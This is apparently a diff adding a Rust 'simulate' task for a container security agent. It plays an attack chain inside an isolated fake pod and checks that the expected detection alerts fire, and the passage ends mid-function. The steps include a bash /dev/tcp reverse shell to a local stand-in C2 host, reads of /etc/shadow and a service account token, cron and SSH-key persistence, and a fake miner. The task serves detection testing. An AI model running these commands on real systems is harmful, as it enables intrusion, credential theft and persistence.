@@ -1,0 +1,997 @@
+//! `cargo xtask simulate`: a kill chain played inside a kubelet-like pod, end to end.
+//!
+//! Set-up: the test kube-apiserver (`xtask/kube/kube.sh`), a namespace `lanner-sim`
+//! with a pod `victim-<n>` bound to the node the agent watches and its status patched
+//! with a containerd container id, a cgroup v2 directory laid out as kubelet's systemd
+//! driver + containerd lay it out, and two network namespaces of our own joined by a
+//! veth pair: the "pod" (`lnr-sim-pod`, 10.231.77.2) and a "C2 host" (`lnr-sim-c2`,
+//! 10.231.77.1, listening on 4444 and, as a health-check target, 8080). No other
+//! address is contacted.
+//!
+//! Then `lanner run` (agent service account, pod read RBAC) and each attack step runs
+//! in the pod's cgroup and network namespace; its expected alerts (rule, priority,
+//! MITRE technique tag, `k8s.pod.name`) are awaited and the detection latency
+//! (alert read time − alert `time`) recorded. A benign phase (package-like file
+//! activity, health checks, a compile) must raise nothing above Notice.
+//!
+//! Everything is removed at the end, and at the start if a previous run left it.
+use std::{
+    ffi::CString,
+    fs::File,
+    io::{BufRead, BufReader, Read, Write},
+    net::TcpListener,
+    os::{
+        fd::AsRawFd,
+        unix::process::CommandExt,
+    },
+    path::{Path, PathBuf},
+    process::{Child, Command, Stdio},
+    sync::{
+        atomic::{AtomicUsize, Ordering},
+        mpsc, Arc, Mutex,
+    },
+    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
+};
+
+use anyhow::{bail, Context as _, Result};
+use serde_json::Value;
+
+mod response;
+
+const NS: &str = "lanner-sim";
+const NODE: &str = "lanner-sim-node";
+const NETNS_POD: &str = "lnr-sim-pod";
+const NETNS_C2: &str = "lnr-sim-c2";
+const POD_IP: &str = "10.231.77.2";
+const C2_IP: &str = "10.231.77.1";
+const WORK: &str = "/tmp/lnr-sim";
+const STATE: &str = "/tmp/lnr-sim.state";
+const CRON_FILE: &str = "/etc/cron.d/lnr-sim";
+const SA_DIR: &str = "/run/secrets/kubernetes.io/serviceaccount";
+const SA_TOKEN_MARK: &str = "lnr-sim-fake-token";
+const RBAC_NAME: &str = "lanner-sim-agent-pods";
+const IMAGE: &str = "registry.example/victim:1.0";
+
+/// Bytes the C2 listener received, and HTTP requests the health-check listener served.
+static C2_BYTES: AtomicUsize = AtomicUsize::new(0);
+static HTTP_REQUESTS: AtomicUsize = AtomicUsize::new(0);
+
+/// One alert line of `lanner run`, with the wall-clock time it was read.
+struct Seen {
+    read_ns: i128,
+    alert: Value,
+}
+
+#[derive(Clone, Copy)]
+struct Expect {
+    rule: &'static str,
+    priority: &'static str,
+    technique: &'static str,
+    /// When set, the alert's `proc.name` must be this.
+    proc_name: Option<&'static str>,
+}
+
+const fn ex(rule: &'static str, priority: &'static str, technique: &'static str) -> Expect {
+    Expect { rule, priority, technique, proc_name: None }
+}
+
+struct Row {
+    step: String,
+    technique: String,
+    rule: String,
+    detected: bool,
+    latency_ms: Option<f64>,
+    note: String,
+}
+
+fn now_ns() -> i128 {
+    SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as i128).unwrap_or(0)
+}
+
+/// RFC 3339 (`2026-11-23T13:43:26.123456789Z` or `+hh:mm`) to Unix nanoseconds.
+fn parse_rfc3339(s: &str) -> Option<i128> {
+    let b = s.as_bytes();
+    if b.len() < 20 || b[4] != b'-' || b[7] != b'-' || !(b[10] == b'T' || b[10] == b't' || b[10] == b' ') {
+        return None;
+    }
+    let num = |r: std::ops::Range<usize>| s.get(r)?.parse::<i64>().ok();
+    let (y, mo, d) = (num(0..4)?, num(5..7)?, num(8..10)?);
+    let (h, mi, se) = (num(11..13)?, num(14..16)?, num(17..19)?);
+    let mut i = 19;
+    let mut frac: i128 = 0;
+    if b.get(i) == Some(&b'.') {
+        i += 1;
+        let start = i;
+        while i < b.len() && b[i].is_ascii_digit() {
+            i += 1;
+        }
+        let digits = &s[start..i];
+        let mut f: i128 = digits.get(..digits.len().min(9))?.parse().ok()?;
+        for _ in digits.len().min(9)..9 {
+            f *= 10;
+        }
+        frac = f;
+    }
+    let off_s: i64 = match b.get(i)? {
+        b'Z' | b'z' => 0,
+        c @ (b'+' | b'-') => {
+            let oh = num(i + 1..i + 3)?;
+            let om = num(i + 4..i + 6)?;
+            let v = oh * 3600 + om * 60;
+            if *c == b'+' {
+                v
+            } else {
+                -v
+            }
+        }
+        _ => return None,
+    };
+    // Days from civil (Howard Hinnant).
+    let y2 = if mo <= 2 { y - 1 } else { y };
+    let era = if y2 >= 0 { y2 } else { y2 - 399 } / 400;
+    let yoe = y2 - era * 400;
+    let mp = (mo + 9) % 12;
+    let doy = (153 * mp + 2) / 5 + d - 1;
+    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
+    let days = era * 146097 + doe - 719468;
+    let secs = days * 86400 + h * 3600 + mi * 60 + se - off_s;
+    Some(secs as i128 * 1_000_000_000 + frac)
+}
+
+fn priority_rank(p: &str) -> u8 {
+    match p.to_ascii_lowercase().as_str() {
+        "emergency" => 7,
+        "alert" => 6,
+        "critical" => 5,
+        "error" => 4,
+        "warning" => 3,
+        "notice" => 2,
+        "informational" | "info" => 1,
+        _ => 0,
+    }
+}
+
+/// FNV-derived 64-hex id (as the e2e tests' `hex_id`).
+fn hex_id(seed: &str) -> String {
+    let mut h: u64 = 0xcbf29ce484222325;
+    let mut out = String::new();
+    for round in 0..4u64 {
+        for b in seed.bytes().chain(round.to_le_bytes()) {
+            h ^= b as u64;
+            h = h.wrapping_mul(0x100000001b3);
+        }
+        out.push_str(&format!("{h:016x}"));
+    }
+    out
+}
+
+fn cgroup2_root() -> Result<PathBuf> {
+    let mi = std::fs::read_to_string("/proc/self/mountinfo")?;
+    for l in mi.lines() {
+        if let Some((pre, post)) = l.split_once(" - ") {
+            if post.starts_with("cgroup2 ") {
+                return Ok(PathBuf::from(pre.split_whitespace().nth(4).context("mount point")?));
+            }
+        }
+    }
+    bail!("no cgroup2 mount in /proc/self/mountinfo")
+}
+
+fn run_quiet(prog: &str, args: &[&str]) -> Result<String> {
+    let out = Command::new(prog).args(args).stdin(Stdio::null()).output().with_context(|| format!("spawn {prog}"))?;
+    if !out.status.success() {
+        bail!("{prog} {}: {}", args.join(" "), String::from_utf8_lossy(&out.stderr).trim());
+    }
+    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
+}
+
+// ------------------------------------------------------------------ kube
+
+struct Kube {
+    kubectl: PathBuf,
+    admin: PathBuf,
+    agent: PathBuf,
+    server: String,
+    ca: PathBuf,
+    token_file: PathBuf,
+}
+
+impl Kube {
+    fn up() -> Result<(Kube, bool)> {
+        let healthy = Command::new("bash")
+            .args(["xtask/kube/kube.sh", "status"])
+            .current_dir(crate::root())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .map(|s| s.success())
+            .unwrap_or(false);
+        if !healthy {
+            crate::sh(Command::new("bash").args(["xtask/kube/kube.sh", "up"]))?;
+        }
+        let env = crate::script_env("xtask/kube/kube.sh")?;
+        let get = |k: &str| env.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
+        let dir = PathBuf::from(get("LANNER_KUBE_DIR").unwrap_or_else(|| "/tmp/lanner-kube".into()));
+        let kubectl = if dir.join("bin/kubectl").exists() { dir.join("bin/kubectl") } else { PathBuf::from("kubectl") };
+        let k = Kube {
+            kubectl,
+            admin: get("LANNER_KUBE_ADMIN_KUBECONFIG").map(PathBuf::from).unwrap_or_else(|| dir.join("admin.kubeconfig")),
+            agent: get("LANNER_KUBE_AGENT_KUBECONFIG").map(PathBuf::from).unwrap_or_else(|| dir.join("agent.kubeconfig")),
+            server: get("LANNER_KUBE_SERVER").unwrap_or_else(|| "https://127.0.0.1:6443".into()),
+            ca: get("LANNER_KUBE_CA").map(PathBuf::from).unwrap_or_else(|| dir.join("pki/ca.crt")),
+            token_file: get("LANNER_KUBE_ADMIN_TOKEN_FILE").map(PathBuf::from).unwrap_or_else(|| dir.join("tokens/admin")),
+        };
+        Ok((k, !healthy))
+    }
+
+    fn kubectl(&self, args: &[&str], stdin: Option<&str>) -> Result<String> {
+        let mut child = Command::new(&self.kubectl)
+            .arg("--kubeconfig")
+            .arg(&self.admin)
+            .args(args)
+            .stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() })
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .context("spawn kubectl")?;
+        if let Some(s) = stdin {
+            child.stdin.take().expect("stdin").write_all(s.as_bytes())?;
+        }
+        let out = child.wait_with_output()?;
+        if !out.status.success() {
+            bail!("kubectl {}: {}", args.join(" "), String::from_utf8_lossy(&out.stderr).trim());
+        }
+        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
+    }
+
+    fn apply(&self, doc: &str) -> Result<()> {
+        self.kubectl(&["apply", "-f", "-"], Some(doc)).map(drop)
+    }
+
+    fn patch_status(&self, pod: &str, patch: &str) -> Result<()> {
+        let token = std::fs::read_to_string(&self.token_file).context("admin token")?;
+        let out = Command::new("curl")
+            .args(["-sS", "--fail-with-body", "-X", "PATCH", "--cacert"])
+            .arg(&self.ca)
+            .args(["-H", &format!("Authorization: Bearer {}", token.trim())])
+            .args(["-H", "Content-Type: application/merge-patch+json", "--data-binary", patch])
+            .arg(format!("{}/api/v1/namespaces/{NS}/pods/{pod}/status", self.server))
+            .output()
+            .context("curl")?;
+        if !out.status.success() {
+            bail!("status patch: {}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+        }
+        Ok(())
+    }
+
+    fn delete_sim_pods(&self) {
+        let _ = self.kubectl(
+            &["-n", NS, "delete", "pods", "-l", "lanner.io/sim=true", "--ignore-not-found", "--grace-period=0", "--force", "--wait=false"],
+            None,
+        );
+    }
+
+    fn delete_rbac(&self) {
+        for kind in ["clusterrolebinding", "clusterrole"] {
+            let _ = self.kubectl(&["delete", kind, RBAC_NAME, "--ignore-not-found"], None);
+        }
+    }
+}
+
+// ------------------------------------------------------------------ host side set-up
+
+fn cleanup_host() {
+    // Processes of a previous run's pod cgroup, then its directories (bottom-up).
+    if let Ok(state) = std::fs::read_to_string(STATE) {
+        let dirs: Vec<&str> = state.lines().filter(|l| !l.is_empty()).collect();
+        for d in &dirs {
+            if let Ok(procs) = std::fs::read_to_string(Path::new(d).join("cgroup.procs")) {
+                for pid in procs.lines().filter_map(|p| p.trim().parse::<i32>().ok()) {
+                    unsafe { libc::kill(pid, libc::SIGKILL) };
+                }
+            }
+        }
+        for d in dirs.iter().rev() {
+            for _ in 0..50 {
+                if std::fs::remove_dir(d).is_ok() || !Path::new(d).exists() {
+                    break;
+                }
+                std::thread::sleep(Duration::from_millis(20));
+            }
+        }
+        let _ = std::fs::remove_file(STATE);
+    }
+    for ns in [NETNS_POD, NETNS_C2] {
+        if Path::new("/run/netns").join(ns).exists() {
+            let _ = run_quiet("ip", &["netns", "del", ns]);
+        }
+    }
+    let _ = std::fs::remove_file(CRON_FILE);
+    let _ = std::fs::remove_dir_all(WORK);
+    let tok = Path::new(SA_DIR).join("token");
+    if std::fs::read_to_string(&tok).map(|s| s.contains(SA_TOKEN_MARK)).unwrap_or(false) {
+        let _ = std::fs::remove_file(&tok);
+        // Only directories we created are empty now.
+        for d in [SA_DIR, "/run/secrets/kubernetes.io", "/run/secrets"] {
+            let _ = std::fs::remove_dir(d);
+        }
+    }
+}
+
+fn setup_netns() -> Result<()> {
+    let ip = |a: &[&str]| run_quiet("ip", a).map(drop);
+    ip(&["netns", "add", NETNS_POD])?;
+    ip(&["netns", "add", NETNS_C2])?;
+    ip(&["link", "add", "lnr-sim-p", "type", "veth", "peer", "name", "lnr-sim-c"])?;
+    ip(&["link", "set", "lnr-sim-p", "netns", NETNS_POD])?;
+    ip(&["link", "set", "lnr-sim-c", "netns", NETNS_C2])?;
+    ip(&["-n", NETNS_POD, "addr", "add", &format!("{POD_IP}/30"), "dev", "lnr-sim-p"])?;
+    ip(&["-n", NETNS_C2, "addr", "add", &format!("{C2_IP}/30"), "dev", "lnr-sim-c"])?;
+    for (ns, dev) in [(NETNS_POD, "lnr-sim-p"), (NETNS_C2, "lnr-sim-c")] {
+        ip(&["-n", ns, "link", "set", "lo", "up"])?;
+        ip(&["-n", ns, "link", "set", dev, "up"])?;
+    }
+    Ok(())
+}
+
+/// The C2 host: listeners on 4444 (reverse shell) and 8080 (health checks), bound
+/// from a thread that entered `lnr-sim-c2` (sockets keep their namespace).
+fn start_c2() -> Result<()> {
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        let r = (|| -> Result<(TcpListener, TcpListener)> {
+            let f = File::open(Path::new("/run/netns").join(NETNS_C2))?;
+            if unsafe { libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
+                bail!("setns {NETNS_C2}: {}", std::io::Error::last_os_error());
+            }
+            Ok((TcpListener::bind((C2_IP, 4444))?, TcpListener::bind((C2_IP, 8080))?))
+        })();
+        let _ = tx.send(r);
+    });
+    let (c2, http) = rx.recv()??;
+    std::thread::spawn(move || {
+        for s in c2.incoming().flatten() {
+            std::thread::spawn(move || {
+                let mut s = s;
+                let mut buf = [0u8; 1024];
+                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
+                while let Ok(n @ 1..) = s.read(&mut buf) {
+                    C2_BYTES.fetch_add(n, Ordering::SeqCst);
+                }
+            });
+        }
+    });
+    std::thread::spawn(move || {
+        for s in http.incoming().flatten() {
+            let mut s = s;
+            let mut buf = [0u8; 2048];
+            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
+            let _ = s.read(&mut buf);
+            HTTP_REQUESTS.fetch_add(1, Ordering::SeqCst);
+            let _ = s.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
+        }
+    });
+    Ok(())
+}
+
+/// The victim's "container": its cgroup.procs and the pod network namespace.
+struct Pod {
+    name: String,
+    container_id: String,
+    procs: CString,
+    netns: File,
+}
+
+impl Pod {
+    /// A command that joins the pod's cgroup and network namespace before exec,
+    /// optionally as uid/gid `uid` (no supplementary groups).
+    fn cmd(&self, prog: &str, args: &[&str], uid: Option<u32>) -> Command {
+        let mut c = Command::new(prog);
+        c.args(args).current_dir(WORK).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
+        let procs = self.procs.as_ptr() as usize;
+        let nsfd = self.netns.as_raw_fd();
+        unsafe {
+            c.pre_exec(move || {
+                // Async-signal-safe calls only.
+                let fd = libc::open(procs as *const libc::c_char, libc::O_WRONLY);
+                if fd < 0 || libc::write(fd, b"0".as_ptr().cast(), 1) != 1 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                libc::close(fd);
+                if libc::setns(nsfd, libc::CLONE_NEWNET) != 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                if let Some(u) = uid {
+                    if libc::setgroups(0, std::ptr::null()) != 0
+                        || libc::setresgid(u, u, u) != 0
+                        || libc::setresuid(u, u, u) != 0
+                    {
+                        return Err(std::io::Error::last_os_error());
+                    }
+                }
+                Ok(())
+            });
+        }
+        c
+    }
+
+    /// Runs to completion; the exit status is not checked (setuid(0) fails, by design).
+    fn run(&self, prog: &str, args: &[&str], uid: Option<u32>, stdin: Option<&str>) -> Result<()> {
+        self.status(prog, args, uid, stdin).map(drop)
+    }
+
+    /// As `run`, but the program must succeed.
+    fn run_ok(&self, prog: &str, args: &[&str]) -> Result<()> {
+        let st = self.status(prog, args, None, None)?;
+        if !st.success() {
+            bail!("{prog} {} in the pod: {st}", args.join(" "));
+        }
+        Ok(())
+    }
+
+    fn status(&self, prog: &str, args: &[&str], uid: Option<u32>, stdin: Option<&str>) -> Result<std::process::ExitStatus> {
+        let mut c = self.cmd(prog, args, uid);
+        if stdin.is_some() {
+            c.stdin(Stdio::piped());
+        }
+        let mut child = c.spawn().with_context(|| format!("spawn {prog} in the pod"))?;
+        if let Some(s) = stdin {
+            let _ = child.stdin.take().expect("stdin").write_all(s.as_bytes());
+        }
+        Ok(child.wait()?)
+    }
+}
+
+// ------------------------------------------------------------------ agent
+
+struct Agent {
+    child: Child,
+    alerts: Arc<Mutex<Vec<Seen>>>,
+    logs: mpsc::Receiver<String>,
+    seen_logs: Vec<String>,
+}
+
+impl Agent {
+    fn start(kube: &Kube, extra: &[String]) -> Result<Agent> {
+        let mut cmd = Command::new(crate::lanner_bin());
+        cmd.args(["run", "--node-name", NODE])
+            .args(extra)
+            .env("KUBECONFIG", &kube.agent)
+            .env("LANNER_LOG", "info")
+            .env_remove("LANNER_LOG_JSON")
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        eprintln!("xtask: {cmd:?}");
+        let mut child = cmd.spawn().context("spawn lanner (build it: cargo build --release -p lanner)")?;
+        let alerts = Arc::new(Mutex::new(Vec::new()));
+        let out = child.stdout.take().expect("stdout");
+        let a2 = alerts.clone();
+        std::thread::spawn(move || {
+            for line in BufReader::new(out).lines() {
+                let Ok(line) = line else { break };
+                let read_ns = now_ns();
+                if let Ok(v) = serde_json::from_str::<Value>(&line) {
+                    if v.get("rule").is_some() {
+                        a2.lock().expect("alerts").push(Seen { read_ns, alert: v });
+                    }
+                }
+            }
+        });
+        let err = child.stderr.take().expect("stderr");
+        let (tx, logs) = mpsc::channel();
+        std::thread::spawn(move || {
+            for line in BufReader::new(err).lines() {
+                let Ok(line) = line else { break };
+                if tx.send(line).is_err() {
+                    break;
+                }
+            }
+        });
+        Ok(Agent { child, alerts, logs, seen_logs: Vec::new() })
+    }
+
+    fn wait_log(&mut self, needle: &str, timeout: Duration) -> Result<String> {
+        if let Some(l) = self.seen_logs.iter().find(|l| l.contains(needle)) {
+            return Ok(l.clone());
+        }
+        let deadline = Instant::now() + timeout;
+        while Instant::now() < deadline {
+            match self.logs.recv_timeout(Duration::from_millis(200)) {
+                Ok(l) => {
+                    self.seen_logs.push(l.clone());
+                    if l.contains(needle) {
+                        return Ok(l);
+                    }
+                }
+                Err(mpsc::RecvTimeoutError::Timeout) => {}
+                Err(mpsc::RecvTimeoutError::Disconnected) => {
+                    bail!("lanner exited before logging {needle:?}:\n{}", self.seen_logs.join("\n"))
+                }
+            }
+        }
+        bail!("no {needle:?} on lanner's stderr within {timeout:?}:\n{}", self.seen_logs.join("\n"))
+    }
+
+    fn mark(&self) -> usize {
+        self.alerts.lock().expect("alerts").len()
+    }
+
+    fn stop(mut self) {
+        std::thread::sleep(Duration::from_millis(300));
+        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while Instant::now() < deadline {
+            if let Ok(Some(_)) = self.child.try_wait() {
+                return;
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn field<'a>(a: &'a Value, k: &str) -> &'a str {
+    a.get("output_fields").and_then(|o| o.get(k)).and_then(Value::as_str).unwrap_or("")
+}
+
+fn is_pod_alert(a: &Value, pod: &Pod) -> bool {
+    field(a, "k8s.pod.name") == pod.name || field(a, "container.id") == &pod.container_id[..12]
+}
+
+fn has_tag(a: &Value, tag: &str) -> bool {
+    a.get("tags").and_then(Value::as_array).map(|t| t.iter().any(|x| x.as_str() == Some(tag))).unwrap_or(false)
+}
+
+// ------------------------------------------------------------------ the chain
+
+type Action = Box<dyn Fn(&Pod) -> Result<()>>;
+
+struct Step {
+    name: &'static str,
+    run: Action,
+    expect: Vec<Expect>,
+}
+
+fn steps(pid1: u32) -> Vec<Step> {
+    let sa_token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+    let discovery = "Discovery command in container";
+    vec![
+        Step {
+            name: "recon: id",
+            run: Box::new(|p| p.run("id", &[], None, None)),
+            expect: vec![Expect { proc_name: Some("id"), ..ex(discovery, "Informational", "T1033") }],
+        },
+        Step {
+            name: "recon: uname -a",
+            run: Box::new(|p| p.run("uname", &["-a"], None, None)),
+            expect: vec![Expect { proc_name: Some("uname"), ..ex(discovery, "Informational", "T1082") }],
+        },
+        Step {
+            name: "recon: ps + /proc/1/status",
+            run: Box::new(|p| {
+                p.run("ps", &["-ef"], None, None)?;
+                p.run("cat", &["/proc/1/status"], None, None)
+            }),
+            expect: vec![Expect { proc_name: Some("ps"), ..ex(discovery, "Informational", "T1057") }],
+        },
+        Step {
+            name: "interactive shell (sh -i)",
+            run: Box::new(|p| p.run("sh", &["-i"], None, Some("exit\n"))),
+            expect: vec![ex("Terminal shell in container", "Warning", "T1059.004")],
+        },
+        Step {
+            name: "environ of another process",
+            run: Box::new(move |p| p.run("cat", &[&format!("/proc/{pid1}/environ")], None, None)),
+            expect: vec![ex("Read process environment or memory", "Warning", "T1003.007")],
+        },
+        Step {
+            name: "read /etc/shadow",
+            run: Box::new(|p| p.run("cat", &["/etc/shadow"], None, None)),
+            expect: vec![ex("Read sensitive file untrusted", "Warning", "T1003.008")],
+        },
+        Step {
+            name: "read service account token",
+            run: Box::new(move |p| p.run("cat", &[sa_token], None, None)),
+            expect: vec![ex("Read service account token with file utility", "Warning", "T1528")],
+        },
+        Step {
+            name: "cron persistence",
+            run: Box::new(|p| {
+                p.run("sh", &["-c", &format!("echo '* * * * * root /tmp/lnr-sim/xmrig' > {CRON_FILE}")], None, None)
+            }),
+            expect: vec![ex("Schedule cron job", "Warning", "T1053.003")],
+        },
+        Step {
+            name: "SSH authorized_keys",
+            run: Box::new(|p| {
+                p.run(
+                    "sh",
+                    &["-c", &format!("echo 'ssh-ed25519 AAAAlnrsim sim@c2' >> {WORK}/home/.ssh/authorized_keys")],
+                    None,
+                    None,
+                )
+            }),
+            expect: vec![ex("Modify SSH authorized keys", "Error", "T1098.004")],
+        },
+        Step {
+            name: "reverse shell to C2:4444",
+            run: Box::new(|p| {
+                p.run("bash", &["-c", &format!("exec 3<>/dev/tcp/{C2_IP}/4444; echo hi >&3")], None, None)
+            }),
+            expect: vec![
+                ex("Reverse shell command line", "Critical", "T1059.004"),
+                ex("Outbound connection to suspicious port", "Warning", "T1071"),
+            ],
+        },
+        Step {
+            name: "crypto miner",
+            run: Box::new(|p| {
+                p.run(&format!("{WORK}/xmrig"), &["-o", "stratum+tcp://pool.example:3333"], None, None)
+            }),
+            expect: vec![
+                ex("Crypto miner executed", "Critical", "T1496"),
+                ex("Crypto mining pool in command line", "Critical", "T1496"),
+            ],
+        },
+        Step {
+            name: "setuid(0) as uid 1000",
+            run: Box::new(|p| p.run("/usr/bin/python3", &["-c", "import os; os.setuid(0)"], Some(1000), None)),
+            expect: vec![ex("Non sudo setuid", "Critical", "T1548.001")],
+        },
+    ]
+}
+
+fn benign(p: &Pod) -> Result<()> {
+    // Package-manager-like file activity, in our own tree.
+    p.run_ok(
+        "sh",
+        &["-c", "mkdir -p pkg/usr/share/doc/lnr pkg/var/lib/dpkg/info && echo doc > pkg/usr/share/doc/lnr/README \
+                 && echo files > pkg/var/lib/dpkg/info/lnr.list && tar -cf lnr.tar -C pkg . \
+                 && mkdir -p root && tar -xf lnr.tar -C root && cp -r root/var root/var.bak"],
+    )?;
+    // Health checks against the in-netns HTTP listener.
+    for _ in 0..3 {
+        p.run_ok("curl", &["-sf", "-o", "/dev/null", "-m", "2", &format!("http://{C2_IP}:8080/healthz")])?;
+    }
+    // A compile and its run.
+    std::fs::write(Path::new(WORK).join("hello.c"), "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n")?;
+    p.run_ok("cc", &["-O0", "-o", "hello", "hello.c"])?;
+    p.run_ok(&format!("{WORK}/hello"), &[])
+}
+
+fn print_table(rows: &[Row]) -> String {
+    let mut s = String::from("| step | technique | rule | detected | latency ms |\n|---|---|---|---|---|\n");
+    for r in rows {
+        let lat = r.latency_ms.map(|l| format!("{l:.1}")).unwrap_or_else(|| "-".into());
+        let det = if r.detected { "yes".to_string() } else { format!("**no** {}", r.note) };
+        s.push_str(&format!("| {} | {} | {} | {} | {} |\n", r.step, r.technique, r.rule, det, lat));
+    }
+    s
+}
+
+pub fn run() -> Result<()> {
+    if !crate::is_root() {
+        bail!("simulate needs root (eBPF, cgroups, network namespaces)");
+    }
+    let bin = crate::lanner_bin();
+    if !bin.exists() {
+        crate::sh(crate::cargo().args(["build", "--release", "-p", "lanner"]))?;
+    }
+    let (kube, started_kube) = Kube::up()?;
+    cleanup_host();
+    kube.delete_sim_pods();
+    let r = simulate(&kube);
+    // Clean up, whatever happened.
+    cleanup_host();
+    kube.delete_sim_pods();
+    kube.delete_rbac();
+    if started_kube && std::env::var_os("LANNER_KEEP_INFRA").is_none() {
+        let _ = crate::sh(Command::new("bash").args(["xtask/kube/kube.sh", "down"]));
+    }
+    r
+}
+
+fn simulate(kube: &Kube) -> Result<()> {
+    let mut response_skip_reason: Option<String> = None;
+    // --- Kubernetes objects.
+    kube.apply(&format!(r#"{{"apiVersion":"v1","kind":"Namespace","metadata":{{"name":"{NS}"}}}}"#))?;
+    kube.apply(&format!(
+        r#"{{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{{"name":"{RBAC_NAME}"}},
+           "rules":[{{"apiGroups":[""],"resources":["pods"],"verbs":["get","list","watch"]}}]}}"#
+    ))?;
+    kube.apply(&format!(
+        r#"{{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{{"name":"{RBAC_NAME}"}},
+           "roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"{RBAC_NAME}"}},
+           "subjects":[{{"kind":"ServiceAccount","name":"lanner-agent","namespace":"lanner"}}]}}"#
+    ))?;
+    let n = now_ns() / 1_000_000_000 % 100_000;
+    let pod_name = format!("victim-{n}");
+    let pod_doc = serde_json::json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": pod_name, "namespace": NS, "labels": {"app": "victim", "lanner.io/sim": "true"}},
+        "spec": {"nodeName": NODE, "containers": [{"name": "app", "image": IMAGE}]}
+    });
+    let uid = kube.kubectl(&["create", "-o", "jsonpath={.metadata.uid}", "-f", "-"], Some(&pod_doc.to_string()))?;
+    let uid = uid.trim().to_string();
+    let container_id = hex_id(&format!("lanner-sim/{uid}"));
+    let patch = serde_json::json!({"status": {"phase": "Running", "podIP": POD_IP, "containerStatuses": [{
+        "name": "app", "image": IMAGE, "imageID": "", "ready": true, "restartCount": 0,
+        "containerID": format!("containerd://{container_id}"), "state": {"running": {}}
+    }]}});
+    kube.patch_status(&pod_name, &patch.to_string())?;
+    eprintln!("xtask: pod {NS}/{pod_name} uid {uid} container {}", &container_id[..12]);
+
+    // --- Host side: cgroup, network namespaces, C2 host, files.
+    let root = cgroup2_root()?;
+    let parts = [
+        "kubepods.slice".to_string(),
+        "kubepods-besteffort.slice".to_string(),
+        format!("kubepods-besteffort-pod{}.slice", uid.replace('-', "_")),
+        format!("cri-containerd-{container_id}.scope"),
+    ];
+    let mut dir = root;
+    let mut created = String::new();
+    for part in parts {
+        dir = dir.join(part);
+        if !dir.exists() {
+            std::fs::create_dir(&dir).with_context(|| format!("mkdir {}", dir.display()))?;
+            created.push_str(&format!("{}\n", dir.display()));
+            std::fs::write(STATE, &created)?;
+        }
+    }
+    setup_netns()?;
+    start_c2()?;
+    std::fs::create_dir_all(Path::new(WORK).join("home/.ssh"))?;
+    std::fs::copy("/bin/true", Path::new(WORK).join("xmrig"))?;
+    std::fs::create_dir_all("/etc/cron.d")?;
+    let tok = Path::new(SA_DIR).join("token");
+    if !tok.exists() {
+        std::fs::create_dir_all(SA_DIR)?;
+        std::fs::write(&tok, format!("{SA_TOKEN_MARK}\n"))?;
+    }
+    let pod = Pod {
+        name: pod_name.clone(),
+        container_id: container_id.clone(),
+        procs: CString::new(dir.join("cgroup.procs").as_os_str().as_encoded_bytes())?,
+        netns: File::open(Path::new("/run/netns").join(NETNS_POD))?,
+    };
+
+    // --- The triage worker, when the binary has one and the agent can feed it.
+    let mut triage = match response::start(kube)? {
+        Ok(t) => Some(t),
+        Err(why) => {
+            eprintln!("xtask: no response phase: {why}");
+            response_skip_reason = Some(why);
+            None
+        }
+    };
+    let extra = triage.as_ref().map(|t| t.agent_args.clone()).unwrap_or_default();
+    let watch = match &triage {
+        Some(_) => Some(response::PodWatch::start(kube, &pod_name)?),
+        None => None,
+    };
+
+    // --- The agent.
+    let mut agent = Agent::start(kube, &extra)?;
+    let r = (|| -> Result<()> {
+        agent.wait_log("lanner ready", Duration::from_secs(90))?;
+        let synced = agent.wait_log("pod cache synced", Duration::from_secs(60))?;
+        eprintln!("xtask: agent: {synced}");
+        play(&agent, &pod, kube, triage.as_mut(), watch.as_ref(), response_skip_reason.as_deref())
+    })();
+    agent.stop();
+    if let Some(t) = triage {
+        t.stop();
+    }
+    if let Some(w) = watch {
+        w.stop();
+    }
+    let _ = kube.kubectl(&["-n", NS, "delete", "networkpolicy", "lanner-quarantine", "--ignore-not-found"], None);
+    r
+}
+
+fn play(
+    agent: &Agent,
+    pod: &Pod,
+    kube: &Kube,
+    triage: Option<&mut response::Triage>,
+    watch: Option<&response::PodWatch>,
+    skip: Option<&str>,
+) -> Result<()> {
+    // The container's long-running "main process" (its environ is read in a step).
+    let mut main = pod.cmd("sleep", &["600"], None).spawn().context("pod main process")?;
+    std::thread::sleep(Duration::from_millis(300));
+    let mut rows = Vec::new();
+    let mut missed = 0;
+    for step in steps(main.id()) {
+        let mark = agent.mark();
+        (step.run)(pod).with_context(|| format!("step {:?}", step.name))?;
+        let deadline = Instant::now() + Duration::from_secs(5);
+        let mut found: Vec<Option<(f64, String)>> = vec![None; step.expect.len()];
+        let mut notes = vec![String::new(); step.expect.len()];
+        loop {
+            {
+                let alerts = agent.alerts.lock().expect("alerts");
+                for (i, e) in step.expect.iter().enumerate() {
+                    if found[i].is_some() {
+                        continue;
